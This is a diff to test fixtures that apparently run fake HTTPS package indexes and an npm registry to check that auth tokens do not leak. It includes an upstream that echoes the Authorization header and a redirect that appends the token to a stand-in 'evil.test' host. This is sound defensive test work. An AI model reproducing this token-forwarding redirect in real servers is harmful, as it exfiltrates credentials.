@@ -108,7 +108,9 @@ class _Guarded:
         self.seen.requests.append((self.command, self.path, auth))
         leak = self.path.split("?")[0].rsplit("/", 1)[-1]
         if leak == "echo-auth":  # an upstream that echoes the request back
-            self._plain(200, f"you sent: {auth}\n", [("X-Echo", auth)])
+            # text/plain: on an http route the body is held and rewritten, then masked
+            headers = [("X-Echo", auth), ("Content-Type", "text/plain")]
+            self._plain(200, f"you sent: {auth}\n", headers)
             return False
         if leak == "redirect-out":
             self._plain(302, "moved\n", [("Location", f"{self.evil}/?{auth}")])
@@ -151,6 +153,13 @@ class _TokenIndex(_Guarded, servers._Quiet):
             super().do_GET()
 
 
+class _TokenRegistry(_TokenIndex):
+    def do_GET(self) -> None:  # noqa: N802 - http.server's name
+        if self.path.count("/") == 1 and not self.path.endswith("echo-auth"):
+            self.path = self.path.rstrip("/") + "/index.json"  # /NAME is the packument
+        super().do_GET()
+
+
 @contextmanager
 def _tls_serving(handler: type[http.server.BaseHTTPRequestHandler], tls: Tls) -> Iterator[int]:
     server = servers._Server(("127.0.0.1", 0), handler)
@@ -178,5 +187,15 @@ def index_https(root: Path, tls: Tls, expected: str, evil: str) -> Iterator[tupl
     seen = Seen()
     attrs = {"expected": expected, "seen": seen, "evil": evil}
     handler = type("TokenIndex", (_TokenIndex,), attrs)
+    with _tls_serving(functools.partial(handler, directory=str(root)), tls) as port:  # type: ignore[arg-type]
+        yield port, seen
+
+
+@contextmanager
+def registry_https(root: Path, tls: Tls, expected: str) -> Iterator[tuple[int, Seen]]:
+    """An npm registry (packuments and tarballs as files) requiring the token."""
+    seen = Seen()
+    attrs = {"expected": expected, "seen": seen, "evil": "http://evil.test:9"}
+    handler = type("TokenRegistry", (_TokenRegistry,), attrs)
     with _tls_serving(functools.partial(handler, directory=str(root)), tls) as port:  # type: ignore[arg-type]
         yield port, seen
